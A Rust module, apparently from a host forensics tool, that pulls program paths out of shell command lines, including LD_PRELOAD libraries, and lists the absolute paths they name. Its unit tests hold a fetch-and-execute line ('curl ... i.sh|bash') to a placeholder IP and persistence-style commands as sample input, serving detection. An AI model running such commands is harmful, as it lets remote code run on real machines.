//! Which program a command line names by its path.

use crate::evidence::HostPath;

/// The first word that is an absolute path and no target of a redirection.
pub(super) fn program(command: &[u8]) -> Option<HostPath> {
    let mut redirected = false;
    for word in command.split(|b| b.is_ascii_whitespace() || b";|&()`\"'{},".contains(b)) {
        if word.is_empty() {
            continue;
        }
        let target = std::mem::take(&mut redirected);
        if let Some(sign) = word.iter().rposition(|b| b"<>".contains(b)) {
            // `2> /dev/null` names its target in the next word.
            redirected = sign + 1 == word.len();
            continue;
        }
        // What is preloaded runs, too.
        let preload = [&b"LD_PRELOAD="[..], b"LD_AUDIT="];
        let word = preload.iter().find_map(|name| word.strip_prefix(*name)).unwrap_or(word);
        if !target && word.first() == Some(&b'/') && word.len() > 1 {
            return Some(HostPath::from(word));
        }
    }
    None
}

/// Every absolute path in a command line, also behind a `=`, in order. What lies in /proc, /sys
/// and /dev is no configuration.
pub(in crate::collect) fn paths(command: &[u8]) -> Vec<HostPath> {
    command
        .split(|b| b.is_ascii_whitespace() || b";|&()`\"'{},=<>".contains(b))
        .filter(|word| word.first() == Some(&b'/') && word.len() > 1)
        .filter(|word| {
            ![&b"/dev/"[..], b"/proc/", b"/sys/"].iter().any(|folder| word.starts_with(folder))
        })
        .map(HostPath::from)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs() {
        for (command, expected) in [
            ("/usr/bin/x -a", Some("/usr/bin/x")),
            ("cd / && /tmp/.x &", Some("/tmp/.x")),
            ("echo x >/dev/null 2> /dev/null; nohup /opt/y", Some("/opt/y")),
            ("sh -c '/opt/z'", Some("/opt/z")),
            ("PATH=/usr/bin:/bin; x", None),
            ("export LD_PRELOAD=/opt/a.so x", Some("/opt/a.so")),
            ("curl http://198.51.100.23/i.sh|bash", None),
        ] {
            assert_eq!(program(command.as_bytes()), expected.map(HostPath::from), "{command}");
        }
    }

    #[test]
    fn paths_that_are_named() {
        let command = b"/opt/x --config=/opt/x.json -l '/var/log/x' >/dev/null a/b";
        let expected = ["/opt/x", "/opt/x.json", "/var/log/x"].map(HostPath::from);
        assert_eq!(paths(command), expected);
    }
}
